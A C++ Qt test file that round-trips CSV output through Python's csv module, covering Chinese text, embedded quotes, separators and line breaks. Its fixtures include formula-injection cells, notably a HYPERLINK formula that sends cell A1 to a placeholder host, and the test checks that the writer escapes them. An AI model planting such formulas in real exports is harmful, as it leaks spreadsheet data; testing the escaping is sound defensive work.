// Reads files written by the CSV writers back with an independent reader, Python's csv module,
// and asserts that every cell comes back as written.
#include "export/csvwriter.h"
#include "export/resultcsv.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <variant>

using namespace ib;

Q_DECLARE_METATYPE(ib::CsvSeparator)

namespace {

using Cell = std::variant<QString, qint64>;
using Rows = QList<QList<QString>>;

// Cells with everything a reader can trip over: Chinese, quotes, separators, CR and LF inside
// fields, and text that a spreadsheet would run as a formula.
QList<QList<Cell>> trickyCells()
{
    return {
        {QStringLiteral("执行失败"), QStringLiteral("line1\r\nline2 \"quoted\", comma执行失败"),
         qint64(-1), qint64(3221225477), QString()},
        {QStringLiteral("=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")"),
         QStringLiteral("-1+1"), QStringLiteral("@cmd"), QStringLiteral("+1"),
         QStringLiteral("\r\n"), QStringLiteral("\tindented")},
        {QStringLiteral("a;b\tc,d"), QStringLiteral("\""), QStringLiteral("\U0001F600 smile"),
         QStringLiteral(" spaces around "), QStringLiteral("\n=1"), QStringLiteral("lone\rCR")},
    };
}

// What a reader must see: the text, an apostrophe before text that could run as a formula,
// numbers in decimal.
QString expectedCell(const Cell &cell)
{
    if (const qint64 *number = std::get_if<qint64>(&cell))
        return QString::number(*number);
    const QString &text = std::get<QString>(cell);
    return CsvWriter::startsFormula(text) ? QLatin1Char('\'') + text : text;
}

QString separatorName(CsvSeparator separator)
{
    switch (separator) {
    case CsvSeparator::Semicolon:
        return QStringLiteral("semicolon");
    case CsvSeparator::Tab:
        return QStringLiteral("tab");
    case CsvSeparator::Comma:
        break;
    }
    return QStringLiteral("comma");
}

// Runs the Python reader over the file; fills rows and bom, or returns why it could not.
QString readWithPython(const QString &path, CsvSeparator separator, Rows *rows, bool *bom)
{
    const QString python = QStringLiteral(IB_PYTHON3);
    if (python.isEmpty())
        return QStringLiteral("python3 was not found when configuring; install it "
                              "(scripts/install-deps) and configure again");

    QProcess process;
    process.start(python, {QStringLiteral(IB_CSV_READER), path, separatorName(separator)});
    if (!process.waitForFinished(60000) || process.exitCode() != 0)
        return QStringLiteral("the Python reader failed: ") +
               QString::fromUtf8(process.readAllStandardError());

    const QJsonObject answer = QJsonDocument::fromJson(process.readAllStandardOutput()).object();
    *bom = answer.value(QLatin1String("byteOrderMark")).toBool();
    for (const QJsonValue &row : answer.value(QLatin1String("rows")).toArray()) {
        QList<QString> cells;
        for (const QJsonValue &cell : row.toArray())
            cells.append(cell.toString());
        rows->append(cells);
    }
    return {};
}

} // namespace

class TestCsvReadBack : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void everyCellComesBack_data();
    void everyCellComesBack();
    void fieldCasesComeBack();

private:
    QTemporaryDir m_dir;
};

void TestCsvReadBack::initTestCase()
{
    QVERIFY(m_dir.isValid());
}

void TestCsvReadBack::everyCellComesBack_data()
{
    QTest::addColumn<CsvSeparator>("separator");
    QTest::addColumn<bool>("byteOrderMark");
    for (const CsvSeparator separator :
         {CsvSeparator::Comma, CsvSeparator::Semicolon, CsvSeparator::Tab}) {
        for (const bool bom : {false, true}) {
            const QString name = separatorName(separator) + (bom ? u", BOM" : u", no BOM");
            QTest::newRow(qPrintable(name)) << separator << bom;
        }
    }
}

void TestCsvReadBack::everyCellComesBack()
{
    QFETCH(CsvSeparator, separator);
    QFETCH(bool, byteOrderMark);

    const QString path = m_dir.filePath(QStringLiteral("cells.csv"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    CsvWriter writer(&file, CsvOptions{separator, byteOrderMark, false});
    Rows expected;
    for (const QList<Cell> &row : trickyCells()) {
        QList<QString> expectedRow;
        for (const Cell &cell : row) {
            if (const qint64 *number = std::get_if<qint64>(&cell))
                writer.addNumber(*number);
            else
                writer.addText(std::get<QString>(cell));
            expectedRow.append(expectedCell(cell));
        }
        writer.endRecord();
        expected.append(expectedRow);
    }
    QVERIFY(writer.flush());
    file.close();

    Rows rows;
    bool bom = false;
    const QString problem = readWithPython(path, separator, &rows, &bom);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(bom, byteOrderMark);
    QCOMPARE(rows, expected);
}

void TestCsvReadBack::fieldCasesComeBack()
{
    InvocationResult case8;
    case8.exitCode = -1;
    case8.errorInfo = QStringLiteral("-1+1");
    case8.output = "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")\r\nnext\r\n";
    InvocationResult case9;
    case9.exitCode = 2;
    case9.output = "line1\r\nline2 \"quoted\", comma" + QStringLiteral("执行失败").toUtf8();

    const QString path = m_dir.filePath(QStringLiteral("results.csv"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    CsvOptions options;
    options.byteOrderMark = true;
    QVERIFY(writeResultsCsv(file, {case8, case9},
                            {ResultField::ExitCode, ResultField::ErrorInfo, ResultField::Output},
                            options));
    file.close();

    Rows rows;
    bool bom = false;
    const QString problem = readWithPython(path, CsvSeparator::Comma, &rows, &bom);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    const Rows expected{
        {QStringLiteral("ExitCode"), QStringLiteral("ErrorInfo"), QStringLiteral("Output")},
        {QStringLiteral("-1"), QStringLiteral("'-1+1"),
         QStringLiteral("'=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")\nnext\n")},
        {QStringLiteral("2"), QString(), QStringLiteral("line1\nline2 \"quoted\", comma执行失败")},
    };
    QCOMPARE(rows, expected);
}

QTEST_GUILESS_MAIN(TestCsvReadBack)
#include "test_csvreadback.moc"
